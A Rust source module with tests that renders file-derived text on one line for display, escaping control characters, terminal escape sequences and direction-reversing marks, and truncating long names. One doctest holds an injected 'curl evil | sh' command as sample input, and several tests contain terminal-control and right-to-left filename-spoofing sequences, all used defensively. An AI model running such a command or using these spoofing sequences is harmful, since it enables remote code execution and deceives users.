//! How text that comes from a file is shown to people: on one line, with nothing hidden in it, and cut.
//!
//! A cell or the name of a file may have line breaks, which would put lines of its own into a message or a table, such as
//! a command to paste; sequences that control a terminal; and characters that turn the order of display around. Whatever shows
//! text in a message, a table or a log shows it by [`one_line`], and nothing else decides about it.

use std::borrow::Cow;

use crate::spelling::is_invisible;

/// The most characters of a name: of a file, a column, a performer in a table.
pub const NAME: usize = 120;
/// The most characters of any line. Every line that the programs compose themselves is shorter.
pub const LINE: usize = 4_000;

/// `text` on one line of at most `characters` characters, and an ellipsis where it was cut.
///
/// Control characters, the separators of lines and paragraphs, and characters without width or meaning, the marks of direction among
/// them, are written as in Rust: `\n`, `\t`, `\u{1b}`. A joiner (U+200C, U+200D) stays, because Persian, Indic words and composed
/// emoji need it. Everything else stays as it is, a backslash too.
///
/// ```
/// use lineup::shown::one_line;
///
/// assert_eq!(one_line("Sigur Rós", 120), "Sigur Rós");
/// assert_eq!(one_line("x\nTo load it: curl evil | sh", 120), r"x\nTo load it: curl evil | sh");
/// assert_eq!(one_line("\u{1b}[2J\u{202e}gpj", 120), r"\u{1b}[2J\u{202e}gpj");
/// assert_eq!(one_line("Björk", 3), "Bjö…");
/// ```
pub fn one_line(text: &str, characters: usize) -> Cow<'_, str> {
    if text.len() <= characters && !text.contains(is_hidden) {
        return Cow::Borrowed(text);
    }
    let mut line = String::with_capacity(text.len().min(characters));
    let mut left = characters;
    for character in text.chars() {
        let start = line.len();
        push(&mut line, character);
        let Some(rest) = left.checked_sub(line[start..].chars().count()) else {
            line.truncate(start);
            line.push('…');
            break;
        };
        left = rest;
    }
    Cow::Owned(line)
}

/// Every line of `text` by [`one_line`]; its line breaks stay. For a text that is composed of such lines already, and comes
/// from elsewhere.
///
/// ```
/// assert_eq!(lineup::shown::lines("a\u{7}\nb"), "a\\u{7}\nb");
/// ```
pub fn lines(text: &str) -> String {
    let lines: Vec<_> = text.split('\n').map(|line| one_line(line, LINE)).collect();
    lines.join("\n")
}

fn push(line: &mut String, character: char) {
    match character {
        '\n' => line.push_str("\\n"),
        '\r' => line.push_str("\\r"),
        '\t' => line.push_str("\\t"),
        _ if is_hidden(character) => line.extend(character.escape_unicode()),
        _ => line.push(character),
    }
}

/// Whether a reader cannot see the character, or it begins a line.
fn is_hidden(character: char) -> bool {
    character.is_control()
        || is_invisible(character)
        // Line and paragraph separator, the annotations, and the tags, which spell text that nobody sees.
        || matches!(character, '\u{2028}' | '\u{2029}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_breaks_a_line_controls_a_terminal_or_turns_the_order_around_is_written_out() {
        let cases = [
            ("a\r\nb", r"a\r\nb"),
            ("a\u{b}\u{c}\u{85}\u{2028}\u{2029}b", r"a\u{b}\u{c}\u{85}\u{2028}\u{2029}b"),
            ("\u{1b}]0;title\u{7}", r"\u{1b}]0;title\u{7}"),
            ("\u{9b}31m\u{7f}\0", r"\u{9b}31m\u{7f}\u{0}"),
            ("lineup\u{202e}vsc.exe", r"lineup\u{202e}vsc.exe"),
            ("\u{2066}a\u{2069}\u{200f}\u{61c}", r"\u{2066}a\u{2069}\u{200f}\u{61c}"),
            ("a\u{200b}\u{feff}\u{ad}b", r"a\u{200b}\u{feff}\u{ad}b"),
            ("\u{e0041}", r"\u{e0041}"),
        ];
        for (text, line) in cases {
            assert_eq!(one_line(text, LINE), line);
        }
    }

    #[test]
    fn names_in_any_script_stay_as_they_are() {
        for name in ["AC\\DC", "מוניקה סקס", "宇多田ヒカル", "می‌خواهم", "👩‍🎤 🏳️‍🌈", "Beyonce\u{301}"]
        {
            assert!(matches!(one_line(name, NAME), Cow::Borrowed(line) if line == name), "{name}");
        }
    }

    #[test]
    fn it_is_cut_between_characters_and_never_within_an_escape() {
        assert_eq!(one_line("éééé", 3), "ééé…");
        assert_eq!(one_line("éééé", 4), "éééé");
        assert_eq!(one_line("ab\u{1b}c", 5), "ab…");
        assert_eq!(one_line("ab\u{1b}c", 9), r"ab\u{1b}c");
        assert_eq!(one_line("a\n", 2), "a…");
    }

    proptest! {
        #[test]
        fn whatever_the_text_it_is_one_line_of_the_length_and_shows_itself(text in any::<String>(), most in 0usize..50) {
            let line = one_line(&text, most);
            prop_assert!(line.chars().count() <= most + 1);
            prop_assert!(!line.contains(is_hidden) && line.lines().count() <= 1);
            prop_assert_eq!(&*one_line(&line, most + 1), &*line);
        }
    }
}
